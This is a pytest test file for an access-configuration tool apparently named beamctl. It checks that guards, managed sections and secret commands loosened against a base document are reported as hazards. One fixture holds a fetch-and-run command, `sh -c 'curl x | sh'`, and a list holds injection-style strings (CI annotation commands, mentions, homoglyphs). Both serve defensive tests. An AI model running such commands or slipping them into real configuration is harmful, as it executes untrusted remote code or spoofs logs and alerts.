"""What a document permits that it did not permit at its base is a hazard, even if the plan has no changes."""

from typing import Any

import pytest

from beamctl.document.desired import Desired
from beamctl.kinds.registry import all_kinds
from beamctl.model.text import printable
from beamctl.plan.base_guards import BaseDocument
from beamctl.plan.comparison import Situation
from beamctl.plan.plan import Plan
from tests.fakes.one_workspace import plan
from tests.fakes.runs import API, TODAY, document
from tests.fakes.wording import words
from tests.fakes.workspace import FakeWorkspace, person

PEOPLE: dict[str, Any] = {"a@x.io": "admin", "b@x.io": "admin", "c@x.io": "member"}
ACCOUNT = {"role": "member", "secretTo": {"command": ["gh", "secret", "set", "X"]}}
AI = {"integration": "openai", "secret": {"apiKey": {"command": ["pass", "ai"]}}}
BASE: dict[str, Any] = {
    "members": PEOPLE,
    "settings": {"displayName": "Acme"},
    "serviceAccounts": {"ci": {**ACCOUNT, "apiKeys": {"k": {"secretTo": {"file": "k"}}}}},
    "integrations": {"ai": AI},
    "guards": {"minAdmins": 2, "maxRemovals": 1, "protected": ["a@x.io"], "maxReinvites": 2},
    "manage": {"skip": {"c@x.io": {"until": "2026-12-01", "reason": "x"}}},
}


def live() -> FakeWorkspace:
    return FakeWorkspace.of([person(email, role) for email, role in PEOPLE.items()])


def compared(base: Desired, now: Desired) -> Plan:
    return plan(now, live(), Situation(TODAY, API, base=BaseDocument(base, "1a2b:access.yaml", all_kinds())))


def looser(now: dict[str, Any], base: dict[str, Any] | None = None) -> dict[str, str]:
    found = compared(document(**(base or BASE)), document(**now))
    return {each.value: words(each.fact) for each in found.hazards if each.risk.value == "loosens-guards"}


def without(*names: str) -> dict[str, Any]:
    return {name: value for name, value in BASE.items() if name not in names}


ACCOUNTS = BASE["serviceAccounts"]
EVIL = {"role": "member", "secretTo": {"command": ["sh", "-c", "curl x | sh"]}}
CASES: list[tuple[dict[str, Any], dict[str, str]]] = [
    (BASE, {}),
    (without("guards"), {"minAdmins": "2 → 1", "protected": "a@x.io", "maxReinvites": "2 → 3"}),
    (without("members"), {"members": "managed → not managed"}),
    (without("settings"), {"settings": "managed → not managed"}),
    (without("integrations"), {"integrations": "managed → not managed"}),
    (without("serviceAccounts"), {"serviceAccounts": "managed → not managed", "apiKeys": "managed → not managed"}),
    (BASE | {"serviceAccounts": {"ci": ACCOUNT}}, {"apiKeys": "managed → not managed"}),
    (BASE | {"manage": {**BASE["manage"], "members": "additive"}}, {"manage.members": "authoritative → additive"}),
    (BASE | {"manage": {"skip": {"c@x.io": {"until": "2026-11-30", "reason": "x"}}}}, {}),
    (BASE | {"manage": {"skip": {"C@x.io": {"until": "2027-12-01", "reason": "x"}}}}, {"manage.skip": "adds c@x.io"}),
    (BASE | {"manage": {"skip": {"*@x.io": {"until": "2026-12-01", "reason": "x"}}}}, {"manage.skip": "adds *@x.io"}),
    (BASE | {"serviceAccounts": {"ci": EVIL}}, {
        "command:sh -c 'curl x | sh'": "adds sh -c 'curl x | sh'", "apiKeys": "managed → not managed"}),
    (BASE | {"serviceAccounts": {"other": ACCOUNTS["ci"]}}, {}),  # a command that was there
    (BASE | {"guards": {**BASE["guards"], "maxRemovals": 2}}, {"maxRemovals": "1 → 2"}),
    (BASE | {"integrations": {"ai": {**AI, "secret": {"apiKey": {"command": ["pass", "b"]}}}}}, {
        "command:pass b": "adds pass b"}),
    (BASE | {"guards": {**BASE["guards"], "maxRemovals": 0, "protected": ["a@x.io", "b@x.io"]}}, {}),
]  # fmt: skip


@pytest.mark.parametrize(("now", "wanted"), CASES, ids=[str(number) for number in range(len(CASES))])
def test_what_is_looser(now: dict[str, Any], wanted: dict[str, str]) -> None:
    found = looser(now)
    assert found.keys() == wanted.keys()
    for name, change in wanted.items():
        assert change in found[name]
        assert "is looser than in 1a2b:access.yaml: " in found[name]
        assert "(access.yaml:" in found[name]


def test_it_is_a_hazard_without_changes_and_can_be_allowed_by_name() -> None:
    base, now = document(PEOPLE, guards={"minAdmins": 2}), document(PEOPLE)
    found = compared(base, now)
    assert found.changes == ()
    assert [(each.value, each.liftable) for each in found.hazards] == [("minAdmins", True)]
    assert compared(now, base).hazards == ()


HOSTILE = [
    "`x`",
    "a|b",
    "::error::x",
    "##[add-mask]y",
    "/close",
    "<!--",
    "{0}",
    "$x$",
    "@here",
    "日本",
    "p\u0430y",
    "e\u0301",
]
"""What a document accepts in a command. It refuses invisible characters."""


@pytest.mark.parametrize("word", HOSTILE)
def test_the_name_of_a_hostile_command_is_printable(word: str) -> None:
    now = BASE | {"integrations": {"ai": {**AI, "secret": {"apiKey": {"command": ["pass", word]}}}}}
    (name,) = looser(now)
    assert name.isascii()
    assert name.isprintable()
    assert printable(name) == name  # so that it can be typed as it is shown


def test_two_commands_never_share_a_name() -> None:
    names = set()
    for words_of in (["a b"], ["a", "b"], ["a\u0430"], ["a"], ["a", ""], ["'a'"], ["a\\u0430"]):
        now = BASE | {"integrations": {"ai": {**AI, "secret": {"apiKey": {"command": words_of}}}}}
        (name,) = looser(now)
        names.add(name)
    assert len(names) == 7
